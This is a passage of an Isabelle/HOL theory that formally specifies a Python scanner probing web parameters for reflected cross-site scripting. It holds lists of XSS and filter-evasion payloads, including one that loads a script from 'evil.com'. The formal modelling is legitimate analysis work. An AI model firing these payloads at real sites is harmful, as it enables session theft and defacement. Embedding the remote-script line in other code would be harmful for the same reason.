theory Spec2Isabelle
  imports Complex_Main "HOL-Library.Sublist" "HOL-Library.List_Lexorder"
begin

section \<open>Python strings\<close>

text \<open>
  A Python \<^verbatim>\<open>str\<close> is a sequence of Unicode code points, and the program iterates,
  slices and compares strings code point by code point (one of its tag mutations uses
  U+3008 and U+3009). A character is therefore a code point, a string a list of them,
  and a "character" handed around by the program (a \<^verbatim>\<open>str\<close> of length one) is a
  one-element list. \<open>py\<close> reads an ASCII literal; other code points are written as
  numbers (34 the double quote, 39 the single quote, 92 the backslash, 0 the null byte).
\<close>

type_synonym pychar = nat
type_synonym pystr = "pychar list"

definition py :: "string \<Rightarrow> pystr" where
  "py s = map of_char s"

text \<open>\<^verbatim>\<open>sub in s\<close>: \<open>sub\<close> occurs in \<open>s\<close> as a contiguous substring.\<close>

fun str_in :: "pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "str_in sub [] = (sub = [])"
| "str_in sub (c # cs) = (prefix sub (c # cs) \<or> str_in sub cs)"

text \<open>\<^verbatim>\<open>list(s)\<close> and \<^verbatim>\<open>for c in s\<close>: the characters of a string, each a string of length one.\<close>

definition chars :: "pystr \<Rightarrow> pystr list" where
  "chars s = map (\<lambda>c. [c]) s"

text \<open>
  \<^verbatim>\<open>str.isspace\<close> on one character and \<^verbatim>\<open>str.strip()\<close>: the white space of
  Python 3 (bidirectional classes WS, B, S and category Zs).
\<close>

definition isspace :: "pychar \<Rightarrow> bool" where
  "isspace c = ((9 \<le> c \<and> c \<le> 13) \<or> (28 \<le> c \<and> c \<le> 32) \<or> c = 133 \<or> c = 160 \<or> c = 5760
      \<or> (8192 \<le> c \<and> c \<le> 8202) \<or> c = 8232 \<or> c = 8233 \<or> c = 8239 \<or> c = 8287 \<or> c = 12288)"

definition strip :: "pystr \<Rightarrow> pystr" where
  "strip s = rev (dropWhile isspace (rev (dropWhile isspace s)))"

section \<open>CacheManager\<close>

text \<open>
  The dictionary \<^verbatim>\<open>cache\<close> maps a key to the pair of the stored result and the time
  of the store. \<^verbatim>\<open>time.time()\<close> is an input of each operation (\<open>now\<close>); clock
  readings are taken as real numbers.
\<close>

record CacheManager =
  cache :: "pystr \<rightharpoonup> bool \<times> real"
  ttl :: real

definition CacheManager_init :: "real \<Rightarrow> CacheManager" where
  "CacheManager_init t = \<lparr>cache = Map.empty, ttl = t\<rparr>"

definition default_ttl :: real where
  "default_ttl = 300"

text \<open>\<^verbatim>\<open>get\<close> returns the result and the cache as the call leaves it.\<close>

definition CacheManager_get :: "CacheManager \<Rightarrow> real \<Rightarrow> pystr \<Rightarrow> bool option \<times> CacheManager" where
  "CacheManager_get c now key =
     (case cache c key of
        Some (result, timestamp) \<Rightarrow>
          if now - timestamp \<le> ttl c then (Some result, c)
          else (None, c\<lparr>cache := (cache c)(key := None)\<rparr>)
      | None \<Rightarrow> (None, c))"

definition CacheManager_set :: "CacheManager \<Rightarrow> real \<Rightarrow> pystr \<Rightarrow> bool \<Rightarrow> CacheManager" where
  "CacheManager_set c now key v = c\<lparr>cache := (cache c)(key \<mapsto> (v, now))\<rparr>"

definition CacheManager_clear_expired :: "CacheManager \<Rightarrow> real \<Rightarrow> CacheManager" where
  "CacheManager_clear_expired c now =
     c\<lparr>cache := (\<lambda>k. case cache c k of
                         Some (r, timestamp) \<Rightarrow> if now - timestamp \<le> ttl c then Some (r, timestamp) else None
                       | None \<Rightarrow> None)\<rparr>"

section \<open>The server and the reflection probes\<close>

text \<open>
  Exceptions of class \<^verbatim>\<open>Exception\<close> are values. A request either raises (a connection
  error, the two-second timeout, a failure while the test URL is built) or returns a
  status and what \<^verbatim>\<open>await response.text()\<close> would give: the body, or an exception
  when the body cannot be read or decoded.
\<close>

datatype py_error = TimeoutError | ClientError | UnicodeDecodeError | ValueError | KeyError | OSError

datatype http_outcome = Raised py_error | Response int "py_error + pystr"

text \<open>
  Everything outside the program that the analysis depends on. Throughout, the
  arguments \<^verbatim>\<open>url\<close> and \<^verbatim>\<open>param\<close> of the source are written \<open>u\<close> and \<open>p\<close>
  (\<open>url\<close> and \<open>param\<close> name the fields of \<^verbatim>\<open>ParamAnalysis\<close> below).
  \<^item> \<open>http_get w u p value\<close>: the outcome of \<^verbatim>\<open>session.get(test_url, timeout=2)\<close>
    where \<^verbatim>\<open>test_url\<close> is the URL \<open>u\<close> with its query replaced by \<open>p=value\<close>; the
    server is a function of the request;
  \<^item> \<open>clock w n\<close>: the \<open>n\<close>-th reading of \<^verbatim>\<open>time.time()\<close> within one call of
    \<^verbatim>\<open>test_chars_batch\<close>;
  \<^item> \<open>client_session w u p\<close>: the exception, if any, of opening the client session
    in \<^verbatim>\<open>test_chars_batch\<close>;
  \<^item> \<open>analysis_session w u p\<close>: the exception, if any, of what \<^verbatim>\<open>analyze_parameter\<close>
    does around its probes (the progress line it prints, the connector and the client
    session it opens and closes).
\<close>

record world =
  http_get :: "pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> http_outcome"
  clock :: "nat \<Rightarrow> real"
  client_session :: "pystr \<Rightarrow> pystr \<Rightarrow> py_error option"
  analysis_session :: "pystr \<Rightarrow> pystr \<Rightarrow> py_error option"

text \<open>
  \<^verbatim>\<open>test_single_char\<close>: the inner case expression is the \<^verbatim>\<open>try\<close> block, the outer one
  the \<^verbatim>\<open>except Exception: return False\<close>. The result type keeps a place for an exception
  that would reach the caller.
\<close>

definition test_single_char :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> py_error + bool" where
  "test_single_char w u p char =
     (case (case http_get w u p (char @ char) of
              Raised e \<Rightarrow> Inl e
            | Response status text \<Rightarrow>
                if status \<noteq> 200 then Inr False
                else (case text of
                        Inl e \<Rightarrow> Inl e
                      | Inr content \<Rightarrow> Inr (str_in (char @ char) content)))
      of Inl e \<Rightarrow> Inr False
       | Inr b \<Rightarrow> Inr b)"

text \<open>
  What the specification calls a reflected marker: the request with the doubled
  character is answered with status 200 and a body that contains the doubled character.
\<close>

definition doubled_reflected :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "doubled_reflected w u p char =
     (\<exists>content. http_get w u p (char @ char) = Response 200 (Inr content)
        \<and> str_in (char @ char) content)"

subsection \<open>test_chars_batch\<close>

text \<open>
  The state of one call of \<^verbatim>\<open>test_chars_batch\<close>: its own cache and the number of clock
  readings taken so far. \<^verbatim>\<open>test_single\<close> is the nested coroutine; it returns the verdict
  (the source pairs it with the character, which the caller drops). The tasks of a batch
  are run in the order of the batch.
\<close>

type_synonym batch_state = "CacheManager \<times> nat"

definition cache_key :: "pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr" where
  "cache_key u p char = u @ py '':'' @ p @ py '':'' @ char"

definition test_single :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> batch_state \<Rightarrow> bool \<times> batch_state" where
  "test_single w u p char st =
     (case st of (c, n) \<Rightarrow>
        (case CacheManager_get c (clock w n) (cache_key u p char) of
           (Some cached_result, c1) \<Rightarrow> (cached_result, (c1, n + 1))
         | (None, c1) \<Rightarrow>
             (case http_get w u p (char @ char) of
                Raised e \<Rightarrow>
                  (False, (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char) False, n + 2))
              | Response status text \<Rightarrow>
                  if status \<noteq> 200
                  then (False, (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char) False, n + 2))
                  else (case text of
                          Inl e \<Rightarrow>
                            (False, (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char) False, n + 2))
                        | Inr content \<Rightarrow>
                            (str_in (char @ char) content,
                             (CacheManager_set c1 (clock w (n + 1)) (cache_key u p char)
                                (str_in (char @ char) content), n + 2))))))"

fun gather_test_single :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> batch_state \<Rightarrow> bool list \<times> batch_state" where
  "gather_test_single w u p [] st = ([], st)"
| "gather_test_single w u p (char # batch) st =
     (case test_single w u p char st of
        (r, st1) \<Rightarrow>
          (case gather_test_single w u p batch st1 of
             (rs, st2) \<Rightarrow> (r # rs, st2)))"

text \<open>\<^verbatim>\<open>[chars[i:i + batch_size] for i in range(0, len(chars), batch_size)]\<close>\<close>

definition char_batches :: "nat \<Rightarrow> 'a list \<Rightarrow> 'a list list" where
  "char_batches batch_size s =
     map (\<lambda>k. take batch_size (drop (k * batch_size) s))
       [0 ..< (length s + batch_size - 1) div batch_size]"

fun test_batches :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> batch_state \<Rightarrow> bool" where
  "test_batches w u p [] st = False"
| "test_batches w u p (batch # rest) st =
     (case gather_test_single w u p (chars batch) st of
        (results, st1) \<Rightarrow>
          if list_ex (\<lambda>is_allowed. is_allowed) results then True
          else test_batches w u p rest st1)"

text \<open>
  \<^verbatim>\<open>test_chars_batch\<close>: a fresh \<^verbatim>\<open>CacheManager()\<close> for each call, batches of twenty
  characters, true at the first batch with an allowed character. An exception while the
  client session is opened is caught and gives false.
\<close>

definition test_chars_batch :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "test_chars_batch w u p cs =
     (case client_session w u p of
        Some e \<Rightarrow> False
      | None \<Rightarrow>
          test_batches w u p (char_batches 20 cs) (CacheManager_init default_ttl, 0))"

subsection \<open>The quick tests\<close>

definition script_test_payloads :: "pystr list" where
  "script_test_payloads =
     [py ''<script>'',
      py ''<SCRIPT>'',
      py ''<ScRiPt>'',
      py ''<%73cript>'',
      py ''<scr<script>ipt>'',
      py ''<svg/script>'',
      py ''<<script>>'',
      py ''</script>'',
      py ''<script/>'',
      [92] @ py ''x3Cscript'' @ [92] @ py ''x3E'',
      py ''&lt;script&gt;'',
      py ''&#x3C;script&#x3E;'',
      py ''<img src=x onerror='',
      py ''<svg onload='',
      py ''<iframe onload='',
      py ''<video onloadstart='']"

definition event_test_payloads :: "pystr list" where
  "event_test_payloads =
     [py ''onmouseover='',
      py ''onclick='',
      py ''onerror='',
      py ''onload='',
      py ''onmouseenter='',
      py ''onmouseleave='',
      py ''onfocus='',
      py ''onblur='',
      py ''onkeyup='',
      py ''onkeydown='',
      py ''ondblclick='',
      py ''oncontextmenu='',
      py ''ondrag='',
      py ''ondragend='',
      py ''onkeypress='',
      py ''onchange='',
      py ''onsubmit='']"

text \<open>The loop of both quick tests: true at the first payload the batch test allows.\<close>

fun first_allowed :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> bool" where
  "first_allowed w u p [] = False"
| "first_allowed w u p (payload # rest) =
     (if test_chars_batch w u p payload then True
      else first_allowed w u p rest)"

definition quick_test_scripts :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "quick_test_scripts w u p = first_allowed w u p script_test_payloads"

definition quick_test_events :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> bool" where
  "quick_test_events w u p = first_allowed w u p event_test_payloads"

text \<open>
  The binary search of \<^verbatim>\<open>quick_test_length\<close>. \<open>allowed mid\<close> is the verdict of the
  awaited \<^verbatim>\<open>test_chars_batch(url, param, 'A' * mid)\<close>; the loop returns the final
  \<^verbatim>\<open>right\<close>.
\<close>

function quick_test_length_loop :: "(int \<Rightarrow> bool) \<Rightarrow> int \<Rightarrow> int \<Rightarrow> int" where
  "quick_test_length_loop allowed left right =
     (if left \<le> right
      then (if allowed ((left + right) div 2)
            then quick_test_length_loop allowed ((left + right) div 2 + 1) right
            else quick_test_length_loop allowed left ((left + right) div 2 - 1))
      else right)"
  by pat_completeness auto
termination
  by (relation "measure (\<lambda>(allowed, left, right). nat (right - left + 1))") auto

text \<open>
  The probe of the search: \<^verbatim>\<open>'A' * mid\<close> is \<open>mid\<close> copies of the code point 65.
  \<open>quick_test_length_with\<close> is the function with the verdicts of the awaited calls
  as an argument, \<^verbatim>\<open>quick_test_length\<close> the function of the source.
\<close>

definition length_probe :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> int \<Rightarrow> bool" where
  "length_probe w u p mid = test_chars_batch w u p (replicate (nat mid) 65)"

definition quick_test_length_with :: "(int \<Rightarrow> bool) \<Rightarrow> int option" where
  "quick_test_length_with allowed =
     (if quick_test_length_loop allowed 10 5000 > 0
      then Some (quick_test_length_loop allowed 10 5000) else None)"

definition quick_test_length :: "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> int option" where
  "quick_test_length w u p = quick_test_length_with (length_probe w u p)"

section \<open>Payload synthesis\<close>

record ParamAnalysis =
  param :: pystr
  url :: pystr
  allowed_chars :: "pystr set"
  blocked_chars :: "pystr set"
  max_length :: "int option"
  allows_spaces :: bool
  allows_quotes :: bool
  allows_angles :: bool
  allows_parens :: bool
  allows_scripts :: bool
  allows_events :: bool

text \<open>\<^verbatim>\<open>all(c in analysis.allowed_chars for c in s)\<close>\<close>

definition all_allowed :: "ParamAnalysis \<Rightarrow> pystr \<Rightarrow> bool" where
  "all_allowed a s = list_all (\<lambda>c. c \<in> allowed_chars a) (chars s)"

subsection \<open>The predefined catalogue\<close>

text \<open>
  The four literal lists of \<^verbatim>\<open>get_predefined_payloads\<close>, in the order of the source.
  \<open>predefined_updates\<close> is the sequence of strings the function passes to
  \<^verbatim>\<open>payloads.update\<close>; the function returns the set of them.
\<close>

definition script_family :: "pystr list" where
  "script_family =
     [py ''<script>alert(1)</script>'',
      py ''<script>prompt(1)</script>'',
      py ''<script>confirm(1)</script>'',
      py ''<svg onload=alert(1)>'',
      py ''<svg/onload=prompt()>'',
      py ''<svg/onload=alert&sol;**&sol;(3)>'',
      py ''<svg/onload=alert/*1337*/(1)>'',
      py ''<svg/onload=prompt()>'',
      py ''<svg/onload=alert//&NewLine;(2)>'',
      py ''<svg/onload=alert/&#42;&#42;/(4)>'',
      py ''<svg/onload=alert&#x2F;**&#47;(5)>'',
      py ''<body onload=alert(1)>'',
      py ''<iframe onload=alert(1)>'']"

definition quoted_script_family :: "pystr list" where
  "quoted_script_family =
     [py ''<script type='' @ [34] @ py ''text/javascript'' @ [34] @ py ''>javascript:alert(1);</script>'',
      [34] @ py ''><script>prompt()</script>'',
      [34] @ py ''><img src=x onerror=prompt()>'',
      [34] @ py ''><iMg SrC=x onError=prompt()>'',
      py ''<img src='' @ [34] @ py ''x'' @ [34] @ py '' onerror='' @ [34] @ py ''alert(1)'' @ [34] @ py ''>'',
      py ''javascript:'' @ [34] @ py ''/*'' @ [39] @ py ''/*'' @ [96] @ py ''/*--></noscript></title></textarea></style></template></noembed></script><html '' @ [34] @ py '' onmouseover=/*&lt;svg/*/onload=alert()//>'',
      [39, 34] @ py ''--></style></script><svg onload=alert(1)//'',
      [34, 39] @ py ''--></style></script><img src=x onerror=alert(1)>'',
      py ''javascript:'' @ [34] @ py ''/*'' @ [39] @ py ''/*'' @ [96] @ py ''/*--></noscript></title></textarea></style></template></noembed></script><html '' @ [34] @ py '' onmouseover=alert(1)//>'']"

definition encoded_family :: "pystr list" where
  "encoded_family =
     [py ''javascript:alert(1)'',
      py ''&lt;script&gt;alert(1)&lt;/script&gt;'',
      [92] @ py ''u003Cscript'' @ [92] @ py ''u003Ealert(1)'' @ [92] @ py ''u003C/script'' @ [92] @ py ''u003E'',
      py ''&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E;'',
      py ''%3Cscript%3Ealert(1)%3C/script%3E'',
      [92] @ py ''x3Cscript'' @ [92] @ py ''x3Ealert(1)'' @ [92] @ py ''x3C/script'' @ [92] @ py ''x3E'']"

definition css_family :: "pystr list" where
  "css_family =
     [py ''<style>@import '' @ [39] @ py ''javascript:alert(1)'' @ [39] @ py '';</style>'',
      py ''<link rel=stylesheet href=javascript:alert(1)>'',
      py ''<div style='' @ [39] @ py ''background-image: url(javascript:alert(1))'' @ [39] @ py ''>'',
      py ''<style>*[{}*{background:url(javascript:alert(1))}]{color: red};</style>'',
      py ''<div style='' @ [34] @ py ''background:url(javascript:alert(1))'' @ [34] @ py ''>'',
      py ''<style>@keyframes x{}</style><div style='' @ [34] @ py ''animation-name:x'' @ [34] @ py '' onanimationend='' @ [34] @ py ''alert(1)'' @ [34] @ py ''></div>'']"

definition predefined_updates :: "ParamAnalysis \<Rightarrow> pystr list" where
  "predefined_updates a =
     (if allows_angles a \<and> allows_scripts a \<and> py ''='' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
      then script_family @ (if allows_quotes a then quoted_script_family else [])
      else [])
     @ (if \<not> allows_angles a then encoded_family else [])
     @ (if allows_angles a \<and> allows_quotes a then css_family else [])"

definition get_predefined_payloads :: "ParamAnalysis \<Rightarrow> pystr set" where
  "get_predefined_payloads a = set (predefined_updates a)"

subsection \<open>The dynamic generator\<close>

definition base_tags :: "pystr list" where
  "base_tags = [py ''script'', py ''img'', py ''svg'', py ''iframe'', py ''video'', py ''audio'', py ''body'']"

definition event_handlers :: "pystr list" where
  "event_handlers = [py ''onload'', py ''onerror'', py ''onmouseover'', py ''onclick'', py ''onmouseenter'']"

definition js_functions :: "pystr list" where
  "js_functions = [py ''alert'', py ''prompt'', py ''confirm'', py ''eval'', py ''atob'']"

text \<open>\<^verbatim>\<open>tag_mutations.get(tag, [tag])\<close> and \<^verbatim>\<open>event_mutations.get(event, [event])\<close>\<close>

definition tag_mutations_get :: "pystr \<Rightarrow> pystr list" where
  "tag_mutations_get tag =
     (if tag = py ''script'' then [py ''ScRiPt'', py ''scr'' @ [0] @ py ''ipt'', [12296] @ py ''script'' @ [12297]]
      else if tag = py ''img'' then [py ''ImG'', py ''i'' @ [0] @ py ''mg'']
      else if tag = py ''svg'' then [py ''SvG'', py ''s'' @ [0] @ py ''vg'']
      else [tag])"

definition event_mutations_get :: "pystr \<Rightarrow> pystr list" where
  "event_mutations_get event =
     (if event = py ''onload'' then [py ''OnLoad'', py ''ONLOAD'', py ''on'' @ [0] @ py ''load'']
      else if event = py ''onerror'' then [py ''OnError'', py ''ONERROR'', py ''on'' @ [0] @ py ''error'']
      else [event])"

text \<open>The strings one round of each innermost loop adds (the f-strings of the source).\<close>

definition comment_variants :: "pystr \<Rightarrow> pystr \<Rightarrow> pystr list" where
  "comment_variants mutated_tag func =
     [py ''<'' @ mutated_tag @ py ''>/**/'' @ func @ py ''(1)/**/'',
      py ''<'' @ mutated_tag @ py ''>/*-->'' @ func @ py ''(1)/**/'',
      py ''<'' @ mutated_tag @ py ''>//'' @ func @ py ''(1)'']"

definition null_variants :: "pystr \<Rightarrow> pystr \<Rightarrow> pystr list" where
  "null_variants tag func =
     [py ''<'' @ tag @ [0] @ py ''>'' @ func @ py ''(1)'',
      py ''<'' @ tag @ py ''>'' @ [0] @ func @ py ''(1)'']"

definition event_variants :: "ParamAnalysis \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr list" where
  "event_variants a tag ev =
     (if allows_quotes a
      then [py ''<'' @ tag @ py '' data-'' @ ev @ py ''='' @ [34] @ py ''alert(1)'' @ [34] @ py ''>'']
      else [])
     @ (if py '':'' \<in> allowed_chars a
        then [py ''<'' @ tag @ py '' '' @ ev @ py ''=javascript:alert(1)>'']
        else [])
     @ (if py ''&'' \<in> allowed_chars a \<and> py '';'' \<in> allowed_chars a
        then [py ''<'' @ tag @ py '' '' @ ev @ py ''=&quot;alert(1)&quot;>'']
        else [])"

text \<open>The loop over \<^verbatim>\<open>base_tags\<close> and the loop over the three event-bearing tags.\<close>

definition tag_payloads :: "ParamAnalysis \<Rightarrow> pystr list" where
  "tag_payloads a =
     concat (map (\<lambda>tag.
       if all_allowed a tag
       then concat (map (\<lambda>mutated_tag.
              if all_allowed a mutated_tag
              then (if py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                    then concat (map (\<lambda>func.
                           if all_allowed a func then comment_variants mutated_tag func else [])
                         js_functions)
                    else [])
                   @ (if [0] \<in> allowed_chars a
                      then concat (map (\<lambda>func.
                             if all_allowed a func then null_variants tag func else [])
                           js_functions)
                      else [])
              else [])
            (tag_mutations_get tag))
       else [])
     base_tags)"

definition event_payloads :: "ParamAnalysis \<Rightarrow> pystr list" where
  "event_payloads a =
     (if py ''='' \<in> allowed_chars a
      then concat (map (\<lambda>tag.
             if all_allowed a tag
             then concat (map (\<lambda>event.
                    concat (map (\<lambda>ev.
                      if all_allowed a ev then event_variants a tag ev else [])
                    (event_mutations_get event)))
                  event_handlers)
             else [])
           [py ''img'', py ''svg'', py ''iframe''])
      else [])"

definition dom_evasions :: "pystr list" where
  "dom_evasions =
     [py ''<script>eval(atob('' @ [96] @ py ''YWxlcnQoMSk='' @ [96] @ py ''))</script>'',
      py ''<script>[].filter.constructor('' @ [39] @ py ''alert(1)'' @ [39] @ py '')()</script>'',
      py ''<script>setTimeout'' @ [96] @ py ''alert'' @ [92] @ py ''x28document.domain'' @ [92] @ py ''x29'' @ [96] @ py ''</script>'',
      py ''<script>Object.assign(window,{alert:eval})('' @ [39] @ py ''1'' @ [39] @ py '')</script>'',
      py ''<script>new Function'' @ [92, 96] @ py ''alert'' @ [92, 96] @ py ''1'' @ [92, 96, 92, 96] @ py ''</script>'',
      py ''<script>with(document)body.appendChild(createElement'' @ [96] @ py ''script'' @ [96] @ py '').src='' @ [39] @ py ''//evil.com'' @ [39] @ py ''</script>'',
      py ''<script>eval.call'' @ [96] @ py ''${'' @ [39] @ py ''alert(1)'' @ [39] @ py ''}'' @ [96] @ py ''</script>'']"

definition proto_evasions :: "pystr list" where
  "proto_evasions =
     [py ''javascript:void('' @ [96] @ py ''alert(1)'' @ [96] @ py '')'',
      py ''javascript:(alert)(1)'',
      py ''javascript:new Function'' @ [92, 96] @ py ''alert'' @ [92, 96] @ py ''1'' @ [92, 96, 92, 96],
      py ''javascript:this'',
      py ''javascript:[][filter][constructor]('' @ [39] @ py ''alert(1)'' @ [39] @ py '')()'',
      py ''javascript:alert?.()?.['' @ [39, 39] @ py '']'',
      py ''javascript:new%20Function'' @ [92, 96] @ py ''alert'' @ [92, 96] @ py ''1'' @ [92, 96, 92, 96],
      py ''javascript:(?=alert)w=1,alert(w)'']"

definition dynamic_updates :: "ParamAnalysis \<Rightarrow> pystr list" where
  "dynamic_updates a =
     (if allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
      then tag_payloads a @ event_payloads a
      else [])
     @ (if allows_angles a \<and> allows_scripts a
        then filter (all_allowed a) dom_evasions
        else [])
     @ (if all_allowed a (py ''javascript:'')
        then filter (all_allowed a) proto_evasions
        else [])"

definition generate_dynamic_payloads :: "ParamAnalysis \<Rightarrow> pystr set" where
  "generate_dynamic_payloads a = set (dynamic_updates a)"

subsection \<open>generate_payloads\<close>

text \<open>
  The union of the two generators, cut to \<^verbatim>\<open>max_length\<close> when that is set and not
  zero, then the final filter: a payload is kept when it is not blank and none of its
  characters is in \<^verbatim>\<open>blocked_chars\<close>. The source returns the set as a list in no
  particular order.
\<close>

definition length_filter :: "ParamAnalysis \<Rightarrow> pystr \<Rightarrow> bool" where
  "length_filter a payload =
     (case max_length a of
        None \<Rightarrow> True
      | Some n \<Rightarrow> if n \<noteq> 0 then int (length payload) \<le> n else True)"

definition final_filter :: "ParamAnalysis \<Rightarrow> pystr \<Rightarrow> bool" where
  "final_filter a payload =
     (strip payload \<noteq> [] \<and> \<not> list_ex (\<lambda>char. char \<in> blocked_chars a) (chars payload))"

definition generate_payloads :: "ParamAnalysis \<Rightarrow> pystr set" where
  "generate_payloads a =
     {payload \<in> {payload \<in> get_predefined_payloads a \<union> generate_dynamic_payloads a.
                    length_filter a payload}.
        final_filter a payload}"

section \<open>Parameter analysis\<close>

text \<open>
  \<^verbatim>\<open>char_groups\<close> is a dictionary from group names to strings of characters, read in
  insertion order: an association list. \<open>default_char_groups\<close> is the built-in
  table of \<^verbatim>\<open>CharacterSetLoader\<close>; a character file may replace it.
\<close>

type_synonym char_groups = "(pystr \<times> pystr) list"

definition default_char_groups :: char_groups where
  "default_char_groups =
     [(py ''basic'', py ''abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789''),
      (py ''special'', py ''<>()'' @ [39, 34, 96] @ py ''{}[];/@'' @ [92] @ py ''*&^%$#!''),
      (py ''spaces'', py '' '' @ [9, 10, 13]),
      (py ''encoded'', py ''%20%0A%0D%3C%3E%22%27%3B%28%29''),
      (py ''unicode'', [34, 39] @ py ''<>''),
      (py ''null_bytes'', [0, 13, 10]),
      (py ''alternating_case'', py ''ScRiPt''),
      (py ''double_encoding'', py ''%253C%253E%2522%2527''),
      (py ''html_entities'', py ''&lt;&gt;&quot;&apos;''),
      (py ''comments'', py ''<!---->/**/<!--''),
      (py ''protocol_handlers'', py ''javascript:data:vbscript:''),
      (py ''event_handlers'', py ''onmouseover=onload=onerror=onfocus='')]"

text \<open>
  \<^verbatim>\<open>asyncio.gather\<close> over coroutines whose outcomes are given: the list of results, or
  the first exception.
\<close>

fun gather :: "(py_error + 'a) list \<Rightarrow> py_error + 'a list" where
  "gather [] = Inr []"
| "gather (x # xs) =
     (case x of
        Inl e \<Rightarrow> Inl e
      | Inr v \<Rightarrow> (case gather xs of Inl e \<Rightarrow> Inl e | Inr vs \<Rightarrow> Inr (v # vs)))"

text \<open>The profile of the early return, when no character of the sample is reflected.\<close>

definition no_reflection_profile :: "pystr \<Rightarrow> pystr \<Rightarrow> ParamAnalysis" where
  "no_reflection_profile u p =
     \<lparr>param = p, url = u, allowed_chars = {}, blocked_chars = {}, max_length = None,
      allows_spaces = False, allows_quotes = False, allows_angles = False,
      allows_parens = False, allows_scripts = False, allows_events = False\<rparr>"

text \<open>
  The full sweep. \<open>results\<close> is the dictionary from characters to verdicts;
  \<^verbatim>\<open>results.update(dict(zip(batch, batch_results)))\<close> is the simultaneous map update,
  in which a later pair of the batch overrides an earlier one.
\<close>

fun sweep_batches ::
  "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> pystr list list \<Rightarrow> (pystr \<rightharpoonup> bool) \<Rightarrow> py_error + (pystr \<rightharpoonup> bool)" where
  "sweep_batches w u p [] results = Inr results"
| "sweep_batches w u p (batch # rest) results =
     (case gather (map (test_single_char w u p) batch) of
        Inl e \<Rightarrow> Inl e
      | Inr batch_results \<Rightarrow> sweep_batches w u p rest (results(batch [\<mapsto>] batch_results)))"

fun sweep_groups ::
  "world \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> char_groups \<Rightarrow> (pystr \<rightharpoonup> bool) \<Rightarrow> py_error + (pystr \<rightharpoonup> bool)" where
  "sweep_groups w u p [] results = Inr results"
| "sweep_groups w u p ((group_name, cs) # rest) results =
     (case sweep_batches w u p (char_batches 20 (chars cs)) results of
        Inl e \<Rightarrow> Inl e
      | Inr results1 \<Rightarrow> sweep_groups w u p rest results1)"

text \<open>
  \<^verbatim>\<open>analyze_parameter\<close>. \<^verbatim>\<open>self.char_groups['basic']\<close> raises \<^verbatim>\<open>KeyError\<close> when the
  character file defines no group of that name. The three quick tests are gathered; with
  the server a function of the request their results do not depend on the interleaving.
\<close>

definition analyze_parameter :: "world \<Rightarrow> char_groups \<Rightarrow> pystr \<Rightarrow> pystr \<Rightarrow> py_error + ParamAnalysis" where
  "analyze_parameter w groups u p =
     (case analysis_session w u p of
        Some e \<Rightarrow> Inl e
      | None \<Rightarrow>
         (case map_of groups (py ''basic'') of
            None \<Rightarrow> Inl KeyError
          | Some basic \<Rightarrow>
             (case gather (map (test_single_char w u p)
                             (take (min 10 (length basic)) (chars basic))) of
                Inl e \<Rightarrow> Inl e
              | Inr initial_results \<Rightarrow>
                  if \<not> list_ex (\<lambda>r. r) initial_results then Inr (no_reflection_profile u p)
                  else
                   (case sweep_groups w u p groups Map.empty of
                      Inl e \<Rightarrow> Inl e
                    | Inr results \<Rightarrow>
                        Inr \<lparr>param = p, url = u,
                             allowed_chars = {char. results char = Some True},
                             blocked_chars = {char. results char = Some False},
                             max_length = quick_test_length w u p,
                             allows_spaces = (py '' '' \<in> {char. results char = Some True}),
                             allows_quotes = ([34] \<in> {char. results char = Some True}
                                              \<or> [39] \<in> {char. results char = Some True}),
                             allows_angles = (py ''<'' \<in> {char. results char = Some True}
                                              \<and> py ''>'' \<in> {char. results char = Some True}),
                             allows_parens = (py ''('' \<in> {char. results char = Some True}
                                              \<and> py '')'' \<in> {char. results char = Some True}),
                             allows_scripts = quick_test_scripts w u p,
                             allows_events = quick_test_events w u p\<rparr>))))"

section \<open>The scan pipeline\<close>

text \<open>
  \<^verbatim>\<open>analyze_url\<close>. The parameter names of a URL are those \<^verbatim>\<open>extract_parameters\<close> finds,
  in order (an argument here: it rests on the URL library and catches its own
  exceptions). The loop is inside one \<^verbatim>\<open>try\<close>: an exception of any round leaves it and
  the function returns the empty dictionary.
\<close>

fun analyze_params ::
  "world \<Rightarrow> char_groups \<Rightarrow> pystr \<Rightarrow> pystr list \<Rightarrow> (pystr \<rightharpoonup> pystr set) \<Rightarrow> py_error + (pystr \<rightharpoonup> pystr set)" where
  "analyze_params w groups u [] results = Inr results"
| "analyze_params w groups u (p # ps) results =
     (case analyze_parameter w groups u p of
        Inl e \<Rightarrow> Inl e
      | Inr analysis \<Rightarrow>
          analyze_params w groups u ps
            (if generate_payloads analysis \<noteq> {}
             then results(param analysis \<mapsto> generate_payloads analysis)
             else results))"

definition analyze_url ::
  "world \<Rightarrow> char_groups \<Rightarrow> (pystr \<Rightarrow> pystr list) \<Rightarrow> pystr \<Rightarrow> (pystr \<rightharpoonup> pystr set)" where
  "analyze_url w groups extract_parameters u =
